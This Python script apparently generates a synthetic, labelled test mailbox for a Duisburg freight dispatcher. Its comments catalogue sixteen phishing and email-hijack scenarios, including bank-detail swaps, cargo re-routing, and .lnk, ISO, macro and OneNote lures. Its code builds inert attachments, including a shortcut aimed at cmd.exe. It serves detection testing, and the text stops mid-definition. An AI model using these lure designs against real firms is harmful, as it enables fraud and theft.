#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-40.py OUT_DIR
#
# Probe mailbox "mbrueckner": Melanie Brückner, Disponentin (dispatcher, road freight to NL/BE/PL/RO) at Rheinport Spedition GmbH,
# Logport I, Duisburg-Rheinhausen. Own mail: Exchange 2019 on-prem behind a Postfix/rspamd gateway (mx1.rheinport-spedition.example),
# Outlook 2019 with German UI ("AW:", "WG:", "Von:/Gesendet:/An:/Betreff:"); the TMS "DISPOnova" mails through the same Exchange.
# German, English and Polish. Sept 2024 - June 2025. Writes OUT_DIR/labels.tsv, OUT_DIR/scenarios.tsv and
# OUT_DIR/mailboxes/mbrueckner/{INBOX,Sent}/N.eml in arrival order across both folders. Only test messages are labelled; the rest is
# context. Deterministic (random.Random(40)); no network; attachments are inert (random bytes / text in real containers).
#
# Correspondents, each with a fixed fingerprint (Message-ID shape, client headers, Received path, DKIM d=/s=, Date zone, quote style):
#   internal   Thomas Krämer (Leiter Disposition), Ulrike Lange (Buchhaltung, DATEV), Lukas Berger (new dispatcher from Jan 2025),
#              IT-Service: Outlook 2019 on the same Exchange 2019 (Message-ID <hex32@RPS-EX01.rheinport.local>, mapi hop only);
#              DISPOnova TMS notifications from rps-tms01.rheinport.local (no reply headers).
#   Schürmann Stahlhandel (Duisburg, shipper)   Microsoft 365 DE tenant, Outlook desktop German (Date +0000, msip_labels,
#              DKIM schuermann-stahl.example/selector1); Jörg Brinkmann also iPhone Mail via EXO (G19).
#   Weidner Chemie AG (Krefeld, shipper)        Exchange 2016 on-prem + Outlook 2016 German ("Reuter, Claudia", "[mailto:]" quotes),
#              Cisco IronPort gateway esa2 (X-IronPort-AV, DKIM d=weidner-chemie.example s=esa).
#   Brandt Verpackungen (Oberhausen, shipper)   Thunderbird on IONOS (mrelayeu.kundenserver.de, no DKIM); announced move to
#              Microsoft 365 in April 2025 (G33).
#   Trans-Pol Sp. z o.o. (Poznań, haulier)      Outlook 2016 Polish UI over a Polish hoster (smtp.hosting-wlkp.example, Postfix,
#              Message-ID <xxxx01dbxxxx$...$...$@trans-pol.example>, "Od:/Wysłano:/Do:/Temat:", DKIM s=hw1).
#   Zawadzki Transport (Łódź, owner-driver)     Gmail app Polish UI ("W dniu ... napisał(a):") + the KargoSnap POD app (SendGrid,
#              From no-reply@send.kargosnap.example, Reply-To his Gmail, geopod-ismtpd Message-IDs).
#   Verhoeven Transport B.V. (Venlo, haulier)   Microsoft 365 EUR tenant, Outlook Dutch UI ("Van:/Verzonden:/Aan:/Onderwerp:"),
#              English text, SharePoint links for CMR scans.
#   TransCarpatia SRL (Arad, haulier)           Microsoft 365: Mihai Ionescu on Outlook for iOS ("Get Outlook for iOS"),
#              Andreea Stan (accounting) on Outlook desktop Romanian UI ("De la:/Trimis:/Către:/Subiect:"), Europe/Bucharest.
#   Brockhoff & Partner Zollagentur (Duisburg-Ruhrort, customs agent)  Outlook 2021 on a hosted Exchange 2019
#              (EXMBX04.hosted-exchange.example, DKIM s=hx2024).
#   Rhenania Transportversicherung (insurer)    Microsoft 365 DE tenant, Outlook German; claims upload portal.
#   Terhaar Havariekommissariat (loss adjuster) Apple Mail on a Strato-like host.
#   Dirk Schäfer Transporte                     GMX webmail (trinity Message-IDs, "Gesendet: ... Uhr" quote block, "Aw:"),
#              later the GMX Mail app (G21).
#   Murat Keskin Transporte                     WEB.DE Mail app (Android).
#   FrachtPilot (freight exchange)              alerts/invoices/security mail through Amazon SES, support via Zendesk.
#   DATEV approval notices, Logistik-Kompass newsletter, toll statements, AK-Dispo mailing list (Mailman 3, footer, [AK-Dispo] tag).
#
# Threads: T1 Schürmann coils to Venlo (Sep); T2 Verhoeven coil trailers wk 38; T3 Schürmann coil-edge complaint (Oct, revived Mar);
#   T4 Schürmann Q1 2025 planning (xlsx lists); T5 Schürmann weekly plan wk 11; T6 Schürmann pickup order 25-0412 to Genk;
#   T7 Weidner ADR shipment to Antwerp; T8 internal: evening message from the boss; T9 Weidner groupage to Rotterdam wk 8; T10 Brandt weekly pallets
#   to Breda; T11 Brandt order 25-0219 Tilburg; T12 Brandt M365 migration + May planning; T13 Trans-Pol capacity Sep/Oct;
#   T14 Trans-Pol invoices / payment advice (accounting); T15 Trans-Pol invoice correction (waiting time); T16 Trans-Pol tour 25-0288;
#   T17 Zawadzki order 24-11873 to Łódź; T18 Zawadzki order 25-0107 to Wrocław; T19 Zawadzki order 25-0355; T20 Verhoeven rates 2025;
#   T21 Verhoeven CMR scans; T22 Verhoeven new planner; T23 Verhoeven planning wk 19 (out-of-office, then forwarded to the colleague);
#   T24 TransCarpatia weekly groupage to Arad;
#   T25 TransCarpatia invoices / bank change; T26 Brockhoff export declaration Serbia; T27 Brockhoff T1 transit from Rotterdam (out-of-office,
#   forwarded to the stand-in, revived in March);
#   T28 Rhenania damage claim SN-2025-0412; T29 Schäfer container haulage; T30 Keskin swap bodies; T31 FrachtPilot support ticket;
#   T32 Buchhaltung DATEV approvals; T33 Buchhaltung payment run forward; T34 internal: new colleague Lukas; T35 AK-Dispo mailing list;
#   plus stand-alone mail: TMS status notes and daily CSV reports, FrachtPilot alerts/invoices/security notices, KargoSnap PODs, DATEV
#   approval notices, newsletter, toll statements, IT notices, forwards to accounting, Brandt's migration announcement.
#
# Hijacks (16):
#   A1  T14 account-takeover   Trans-Pol accounting mailbox via the hoster's Roundcube from a foreign IP: open invoices to a "new" mBank IBAN
#   A2  T16 server-hijack      Trans-Pol's real Outlook 2016/hoster path: "Rechnungskorrektur" ZIP holding a .pdf.lnk, faithful quote
#   A3  T9  server-hijack      Weidner's real Exchange 2016/IronPort path: English "delivery note / POD" Dropbox link in a German thread
#   A4  T27 server-hijack      Brockhoff's real hosted Exchange: Saturday 02:13, "Zollunterlagen" ISO image
#   A5  T20 server-hijack      Verhoeven's real M365/Outlook: context-aware diesel-floater follow-up with an .html "rate sheet" (fake login)
#   A6  T29 server-hijack      Schäfer's real GMX webmail: PDF "Frachtvertrag" whose link goes to an e-signature page on an unknown domain
#   A7  T11 account-takeover   Brandt MD's IONOS account via IONOS webmail (OX) at 21:37: delivery address changed, quote altered to match
#   A8  T19 account-takeover   Zawadzki's Gmail via Gmail web, English UI, wrong UTC offset, 03:26: "e-TOLL penalty" on docs.google.com
#   A9  T5  account-takeover   Schürmann (Sandra Klein) via SMTP AUTH from a VPS (no Outlook headers): "Sprachnachricht" SVG, no quote
#   A10 T4  display-name-spoof "Jörg Brinkmann" from a compromised bakery mailbox: macro workbook "Ladeliste_KW05.xlsm", real quote
#   A11 T32 display-name-spoof "Ulrike Lange" from outlook.com: DATEV payroll re-registration (MFA) link on an unknown domain
#   A12 T28 display-name-spoof "Nicole Steinbach | Rhenania" from a car dealer's webmail: password-protected ZIP (.js), password in text
#   A13 T6  lookalike-domain   schuerman-stahl.example (new M365 tenant, onmicrosoft DKIM): the coil load is re-routed to a "temporary
#                              store" in Moers, call "Herr Wolters" with plates and ETA (cargo theft); long, context-aware, real quote
#   A14 T31 lookalike-domain   frachtpilot-service.example answers the real support ticket: 2FA re-confirmation, fake login link
#   A15 --  fake-thread        "Dr. Kroll Sachverständigenbüro": "AW: Transportschaden - Kostenvorschuss Gutachten", fabricated quote
#                              of Melanie (pretends an earlier claims discussion), OneNote attachment
#   A16 --  fake-thread        "novadata Kundenservice": "RE: DISPOnova Update 9.4 - Wartungstermin", no quote, .ics with a link
#
# Genuine hard cases (35):
#   G1  T17 KargoSnap POD photos at 23:47 (transactional service, no reply headers)   G2  T18 Zawadzki photo of a damaged pallet at 05:12
#   G3  T25 TransCarpatia accounting sends its bank-change letter (PDF), announced    G4  T25 Mihai confirms the change from his phone, 21:52
#   G5  T25 first invoice with the new, verified IBAN                                  G6  T26 customs agent sends the zip of export docs asked for
#   G7  T27 new customs colleague answers while Katja is away                          G8  T27 customs agent's out-of-office reply
#   G9  --  FrachtPilot load-match alert with many links                              G10 T31 FrachtPilot Zendesk reply with help-centre/login links
#   G11 --  FrachtPilot "new sign-in" security notice (real)                          G12 --  TMS status notification with intranet link
#   G13 --  TMS daily report with CSV attachment at 05:30                              G14 T33 Buchhaltung forwards the DATEV payment run (WG:, PDF)
#   G15 --  DATEV approval notification with link                                     G16 T21 Verhoeven SharePoint link to CMR scans
#   G16b T2 Verhoeven's first SharePoint CMR link                                     G17 T22 Verhoeven's new planner writes himself
#   G18 T7  Weidner sends a link to its own file-transfer portal (SDS)                G19 T6  Jörg Brinkmann from his iPhone at 22:41
#   G20 T3  Schürmann revives the coil complaint after five months                    G21 T29 Schäfer writes from the GMX app with a new mobile number
#   G22 T30 Keskin sends a CMR photo at 23:05 from the WEB.DE app                     G23 T28 insurer sends its claims-portal upload link
#   G24 T28 insurer's settlement letter (PDF)                                          G25 T28 loss adjuster (new person, Cc'd by insurer) writes
#   G26 T15 Trans-Pol sends the corrected invoice (PDF) that Melanie asked for         G27 T13 Trans-Pol dispatcher answers in Polish
#   G28 T35 AK-Dispo list reply with list footer and links                            G29 T8  the boss from his iPhone at 23:18
#   G30 T24 Mihai sends a CMR photo at 05:41 from his phone                           G31 --  FrachtPilot monthly invoice with PDF
#   G32 T23 Verhoeven planner's out-of-office reply                                    G33 T12 Brandt writes from its new Microsoft 365 (announced)
#   G34 T34 the new colleague Lukas writes his first mail
# Genuine orphans (2): O1 Weidner replies-all to a mail Lukas sent alone (Melanie added in Cc; parent not in mailbox);
#   O2 Verhoeven answers FrachtPilot's relay of Melanie's load offer (parent only went to Verhoeven).
# Plain genuine replies: every other labelled in-thread reply (genuine-reply).
# Totals: 404 messages (304 INBOX, 100 Sent) in 35 threads plus stand-alone mail; 126 labelled: 16 hijack (server-hijack 5,
#   account-takeover 4, display-name-spoof 3, lookalike-domain 2, fake-thread 2), 73 genuine-reply, 35 genuine-hard, 2 genuine-orphan.
import base64, datetime, hashlib, html as H, io, os, quopri, struct, sys, uuid, zipfile, zlib, random
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "mbrueckner"
for _f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{_f}", exist_ok=True)
R = random.Random(40)
BER = ZoneInfo("Europe/Berlin"); WAW = ZoneInfo("Europe/Warsaw"); AMS = ZoneInfo("Europe/Amsterdam"); BUC = ZoneInfo("Europe/Bucharest")
UTC = datetime.timezone.utc; LAG = ZoneInfo("Africa/Lagos"); PAC = ZoneInfo("America/Los_Angeles")


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def at(y, mo, d, h, mi, tz=BER): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)
def dsec(t, lo, hi): return t + datetime.timedelta(seconds=R.randint(lo, hi))


WD = {"de": ["Montag", "Dienstag", "Mittwoch", "Donnerstag", "Freitag", "Samstag", "Sonntag"],
      "pl": ["poniedziałek", "wtorek", "środa", "czwartek", "piątek", "sobota", "niedziela"],
      "nl": ["maandag", "dinsdag", "woensdag", "donderdag", "vrijdag", "zaterdag", "zondag"],
      "ro": ["luni", "marți", "miercuri", "joi", "vineri", "sâmbătă", "duminică"],
      "en": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]}
MO = {"de": ["Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August", "September", "Oktober", "November", "Dezember"],
      "pl": ["stycznia", "lutego", "marca", "kwietnia", "maja", "czerwca", "lipca", "sierpnia", "września", "października", "listopada", "grudnia"],
      "nl": ["januari", "februari", "maart", "april", "mei", "juni", "juli", "augustus", "september", "oktober", "november", "december"],
      "ro": ["ianuarie", "februarie", "martie", "aprilie", "mai", "iunie", "iulie", "august", "septembrie", "octombrie", "noiembrie", "decembrie"],
      "en": ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]}
PL_WD_SHORT = ["pon.", "wt.", "śr.", "czw.", "pt.", "sob.", "niedz."]
PL_MO_SHORT = ["sty", "lut", "mar", "kwi", "maj", "cze", "lip", "sie", "wrz", "paź", "lis", "gru"]


# ---------------------------------------------------------------------------------------------------------------- containers
def zip_bytes(members, when=(2025, 1, 1, 12, 0, 0)):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; zi.create_system = 0
        z.writestr(zi, data)
    z.close(); return bio.getvalue()


_CRCT = []
for _i in range(256):
    _c = _i
    for _ in range(8): _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRCT.append(_c)


class _ZipCrypto:
    """traditional PKWARE encryption, so the password in the lure really opens the archive"""
    def __init__(s, pw):
        s.k = [0x12345678, 0x23456789, 0x34567890]
        for ch in pw: s.upd(ch)
    def upd(s, ch):
        k0 = _CRCT[(s.k[0] ^ ch) & 0xff] ^ (s.k[0] >> 8)
        k1 = ((s.k[1] + (k0 & 0xff)) * 134775813 + 1) & 0xffffffff
        k2 = _CRCT[(s.k[2] ^ (k1 >> 24)) & 0xff] ^ (s.k[2] >> 8)
        s.k = [k0, k1, k2]
    def enc(s, data):
        out = bytearray()
        for c in data:
            t = (s.k[2] | 2) & 0xffff; out.append(c ^ (((t * (t ^ 1)) >> 8) & 0xff)); s.upd(c)
        return bytes(out)


def zip_encrypted(members, password, when=(2025, 4, 28, 9, 12, 0)):
    y, mo, d, h, mi, se = when
    dt, dd = (h << 11) | (mi << 5) | (se // 2), ((y - 1980) << 9) | (mo << 5) | d
    out = bytearray(); central = bytearray()
    for name, data in members:
        crc = zlib.crc32(data) & 0xffffffff
        co = zlib.compressobj(9, zlib.DEFLATED, -15); comp = co.compress(data) + co.flush()
        zc = _ZipCrypto(password.encode())
        body = zc.enc(rbytes(11) + bytes([crc >> 24])) + zc.enc(comp)
        nb = name.encode("cp437"); off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 1, 8, dt, dd, crc, len(body), len(data), len(nb), 0) + nb + body
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 1, 8, dt, dd, crc, len(body), len(data), len(nb), 0, 0, 0, 0, 0x20, off) + nb
    cd = len(out); out += central
    out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members), len(central), cd, 0)
    return bytes(out)


def pdf_esc(s): return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


_TRL = str.maketrans("ŁłąćęńśźżĄĆĘŃŚŹŻșşțăȘŞȚĂ", "LlacenszzACENSZZsstaSSTA")
def pdf_text(s): return s.translate(_TRL).encode("cp1252", "replace")


def pdf(lines, uris=(), producer="Microsoft® Word 2019", when="20250101090000", zone="+01'00'", title=None):
    content = pdf_text("BT /F1 10 Tf 13 TL 60 780 Td " + " ".join(f"({pdf_esc(l)}) '" for l in lines) + " ET")
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None,
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({pdf_esc(producer)})" + (f" /Title ({pdf_esc(title)})" if title else "") + f" /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone}) >>"]
    annots = []
    for i, u in enumerate(uris):
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [60 {520 - 40 * i} 535 {552 - 40 * i}] /Border [0 0 0] /A << /S /URI /URI ({u}) >> >>")
        annots.append(len(objs))
    objs[2] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
               + (f" /Annots [{' '.join(f'{a} 0 R' for a in annots)}]" if annots else "") + " >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += (f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n") if i == 4 else pdf_text(f"{i} 0 obj\n{o}\nendobj\n")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def jpeg(make="samsung", model="SM-A346B", when="2025:01:01 12:00:00", kb=48):
    """JFIF/Exif structure (SOI, APP1 Exif with Make/Model/DateTime, DQT, SOF0, SOS, entropy bytes, EOI)"""
    def ifd_entry(tag, typ, count, val): return struct.pack("<HHII", tag, typ, count, val)
    strs = [make.encode() + b"\0", model.encode() + b"\0", when.encode() + b"\0"]
    base = 8 + 2 + 3 * 12 + 4; offs = []; blob = b""
    for s_ in strs: offs.append(base + len(blob)); blob += s_
    tiff = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 3) + ifd_entry(0x010F, 2, len(strs[0]), offs[0]) + \
        ifd_entry(0x0110, 2, len(strs[1]), offs[1]) + ifd_entry(0x0132, 2, len(strs[2]), offs[2]) + struct.pack("<I", 0) + blob
    app1 = b"Exif\x00\x00" + tiff
    dqt = b"\x00" + bytes(R.randint(1, 40) for _ in range(64))
    sof = struct.pack(">BHHB", 8, 3000, 4000, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    sos = b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
    data = bytes(b if b != 0xFF else 0xFE for b in rbytes(kb * 1024))
    seg = lambda m, p: b"\xff" + bytes([m]) + struct.pack(">H", len(p) + 2) + p
    return b"\xff\xd8" + seg(0xE1, app1) + seg(0xDB, dqt) + seg(0xC0, sof) + seg(0xDA, sos) + data + b"\xff\xd9"


def ooxml_xlsx(rows, sheet="Tabelle1", macro=False, when="2025-01-01T08:00:00Z", author="Brinkmann, Jörg"):
    def cell(r, c, v):
        ref = "ABCDEFGHIJ"[c] + str(r + 1)
        if isinstance(v, (int, float)): return f'<c r="{ref}"><v>{v}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t>{H.escape(str(v))}</t></is></c>'
    sd = "".join(f'<row r="{r + 1}">' + "".join(cell(r, c, v) for c, v in enumerate(row)) + "</row>" for r, row in enumerate(rows))
    wb_ct = "application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "")
          + f'<Override PartName="/xl/workbook.xml" ContentType="{wb_ct}"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          f'<sheet name="{H.escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wbrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
              + ('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>' if macro else "")
              + "</Relationships>")
    ws = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          f"<sheetData>{sd}</sheetData></worksheet>")
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f'<dc:creator>{H.escape(author)}</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">{when}</dcterms:created></cp:coreProperties>')
    members = [("[Content_Types].xml", ct.encode()), ("_rels/.rels", rels.encode()), ("xl/workbook.xml", wb.encode()),
               ("xl/_rels/workbook.xml.rels", wbrels.encode()), ("xl/worksheets/sheet1.xml", ws.encode()), ("docProps/core.xml", core.encode())]
    if macro:  # compound-file header + inert filler in place of the VBA storage
        members.append(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + rbytes(7000)))
    return zip_bytes(members, (2025, 1, 20, 16, 2, 0))


def iso_image(volume, names):
    pvd = bytearray(2048)
    pvd[0] = 1; pvd[1:6] = b"CD001"; pvd[6] = 1
    pvd[8:40] = b"WIN32".ljust(32); pvd[40:72] = volume.encode().ljust(32)
    struct.pack_into("<I", pvd, 80, 64); struct.pack_into(">I", pvd, 84, 64)
    dirent = b"".join(bytes([33 + len(n)]) + b"\0" + rbytes(31) + bytes([len(n)]) + n.upper().encode() for n in names)
    term = bytearray(2048); term[0] = 255; term[1:6] = b"CD001"; term[6] = 1
    return bytes(32768) + bytes(pvd) + bytes(term) + dirent.ljust(2048, b"\0") + rbytes(40 * 1024)


def lnk(arguments, icon=r"%SystemRoot%\System32\imageres.dll"):
    hdr = struct.pack("<I", 0x4C) + uuid.UUID("00021401-0000-0000-c000-000000000046").bytes_le + struct.pack("<I", 0x000000E4) + struct.pack("<I", 0x20)
    hdr += rbytes(24) + struct.pack("<I", 0) + struct.pack("<I", 1) + struct.pack("<H", 0) + b"\0" * 10
    def sd(s): return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return hdr + sd(r"..\..\..\Windows\System32\cmd.exe") + sd(arguments) + sd(icon) + struct.pack("<I", 0)


def onenote(title):
    return uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le + uuid.UUID(int=R.getrandbits(128)).bytes_le + \
        b"\x00" * 16 + rbytes(200) + title.encode("utf-16-le") + rbytes(12000)


# ---------------------------------------------------------------------------------------------------------------- people
class Pt:
    def __init__(s, name, email, client, infra, sig="", tz=BER, disp=None, ip=None, host=None, org=""):
        s.name, s.email, s.client, s.infra, s.sig, s.tz = name, email, client, infra, sig, tz
        s.disp = disp or name; s.ip, s.host, s.org = ip, host, org
        s.dom = email.split("@")[1]


OWN = "rheinport-spedition.example"
SIG_ME = ("\n\nMit freundlichen Grüßen / Best regards\n\nMelanie Brückner\nDisposition Nahverkehr & Osteuropa\n\nRheinport Spedition GmbH\n"
          "Logport I · Hohenbudberger Str. 22 · 47229 Duisburg\nTel. +49 2065 555-214 · Mobil +49 171 5553082\n"
          f"m.brueckner@{OWN} · www.{OWN}\nGeschäftsführer: Thomas Krämer, Ulrich Baaken · AG Duisburg HRB 55512\n"
          "Wir arbeiten ausschließlich auf Grundlage der ADSp 2017.")
me = Pt("Melanie Brückner", f"m.brueckner@{OWN}", "ol19", "own", SIG_ME)
kraemer = Pt("Thomas Krämer", f"t.kraemer@{OWN}", "ol19", "internal",
             "\n\nGruß\nThomas Krämer\nLeitung Disposition | Rheinport Spedition GmbH\nTel. +49 2065 555-200")
lange = Pt("Ulrike Lange", f"u.lange@{OWN}", "ol19", "internal",
           "\n\nViele Grüße\nUlrike Lange\nFinanzbuchhaltung | Rheinport Spedition GmbH\nTel. +49 2065 555-231")
berger = Pt("Lukas Berger", f"l.berger@{OWN}", "ol19", "internal",
            "\n\nViele Grüße\nLukas Berger\nDisposition | Rheinport Spedition GmbH\nTel. +49 2065 555-216")
itsvc = Pt("IT-Service Rheinport", f"it-service@{OWN}", "ol19", "internal", "\n\nIhr IT-Service\nDurchwahl -250 | it-service@rheinport-spedition.example")
tms = Pt("DISPOnova TMS", f"tms-noreply@{OWN}", "tms", "tms")

joerg = Pt("Jörg Brinkmann", "j.brinkmann@schuermann-stahl.example", "exode", "exo-schuermann",
           "\n\nMit freundlichen Grüßen\n\nJörg Brinkmann\nLeiter Versand\n\nSchürmann Stahlhandel GmbH\nWanheimer Straße 180 · 47053 Duisburg\n"
           "T +49 203 555 4410 · M +49 160 555 9127\nwww.schuermann-stahl.example\nSitz Duisburg · AG Duisburg HRB 22871 · GF: Heike Schürmann")
sandra = Pt("Sandra Klein", "s.klein@schuermann-stahl.example", "exode", "exo-schuermann",
            "\n\nViele Grüße\n\nSandra Klein\nAuftragsabwicklung / Disposition\n\nSchürmann Stahlhandel GmbH\nWanheimer Straße 180 · 47053 Duisburg\n"
            "T +49 203 555 4423\nwww.schuermann-stahl.example\nSitz Duisburg · AG Duisburg HRB 22871 · GF: Heike Schürmann")
WEIDNER_FOOT = ("\n\nWeidner Chemie AG · Hafenstraße 41 · 47829 Krefeld\nVorstand: Dr. Martin Weidner (Vors.), Susanne Loers · Vorsitzender des Aufsichtsrats: "
                "Klaus Peters\nSitz Krefeld · Amtsgericht Krefeld HRB 8812\nDiese E-Mail kann vertrauliche Informationen enthalten.")
claudia = Pt("Claudia Reuter", "claudia.reuter@weidner-chemie.example", "ex16", "weidner", "\n\nMit freundlichen Grüßen\nClaudia Reuter\nVersand & Logistik\n"
             "Tel.: +49 2151 555-3371\nFax: +49 2151 555-3399\nclaudia.reuter@weidner-chemie.example" + WEIDNER_FOOT, disp="Reuter, Claudia")
jansen = Pt("Markus Jansen", "markus.jansen@weidner-chemie.example", "ex16", "weidner", "\n\nMit freundlichen Grüßen\nMarkus Jansen\n"
            "Gefahrgutbeauftragter (ADR/RID/IMDG)\nTel.: +49 2151 555-3310" + WEIDNER_FOOT, disp="Jansen, Markus")
frank = Pt("Frank Brandt", "f.brandt@brandt-verpackungen.example", "tbde", "ionos",
           "\n\n-- \nFrank Brandt\nGeschäftsführer\nBrandt Verpackungen GmbH · Im Lipperfeld 7 · 46047 Oberhausen\nTel. 0208 555 7710 · www.brandt-verpackungen.example",
           ip="87.123.41.88")
tanja = Pt("Tanja Wolff", "t.wolff@brandt-verpackungen.example", "tbde", "ionos",
           "\n\n-- \nTanja Wolff\nVersand / Auftragsabwicklung\nBrandt Verpackungen GmbH · Im Lipperfeld 7 · 46047 Oberhausen\nTel. 0208 555 7714",
           ip="87.123.41.88")
marek = Pt("Marek Dąbrowski", "marek.dabrowski@trans-pol.example", "ol16pl", "hostpl",
           "\n\nPozdrawiam / Mit freundlichen Grüßen\nMarek Dąbrowski\nSpedytor / Disponent\nTRANS-POL Sp. z o.o.\nul. Gdyńska 112, 61-016 Poznań\n"
           "tel. +48 61 555 20 14, kom. +48 601 555 873\nNIP 782-255-10-44", WAW, ip="31.179.42.17", host="DESKTOP-4QH7T2M")
joanna = Pt("Joanna Kaczmarek", "ksiegowosc@trans-pol.example", "ol16pl", "hostpl",
            "\n\nBest regards\nJoanna Kaczmarek\nKsięgowość / Accounting\nTRANS-POL Sp. z o.o.\nul. Gdyńska 112, 61-016 Poznań\ntel. +48 61 555 20 19",
            WAW, ip="31.179.42.17", host="KSIEG-PC02", disp="TRANS-POL Księgowość - Joanna Kaczmarek")
piotr = Pt("Piotr Zawadzki", "zawadzki.transport@gmail.com", "gmailpl", "gmail",
           "\n\n--\nPiotr Zawadzki\nZAWADZKI TRANSPORT\nŁódź, ul. Rokicińska 201\n+48 609 555 412", WAW)
kargo = Pt("Piotr Zawadzki (KargoSnap)", "no-reply@send.kargosnap.example", "sendgrid", "sendgrid", "", UTC)
marloes = Pt("Marloes Hendriks", "m.hendriks@verhoeven-transport.example", "exonl", "exo-verhoeven",
             "\n\nKind regards / Met vriendelijke groet,\n\nMarloes Hendriks\nPlanning International\nVerhoeven Transport B.V.\nCelsiusweg 14, 5928 PR Venlo (NL)\n"
             "T +31 77 555 8820 | planning@verhoeven-transport.example", AMS)
thijs = Pt("Thijs Bakker", "t.bakker@verhoeven-transport.example", "exonl", "exo-verhoeven",
           "\n\nKind regards / Met vriendelijke groet,\n\nThijs Bakker\nPlanning International\nVerhoeven Transport B.V.\nCelsiusweg 14, 5928 PR Venlo (NL)\n"
           "T +31 77 555 8824 | planning@verhoeven-transport.example", AMS)
ruud = Pt("Ruud Verhoeven", "r.verhoeven@verhoeven-transport.example", "exonl", "exo-verhoeven",
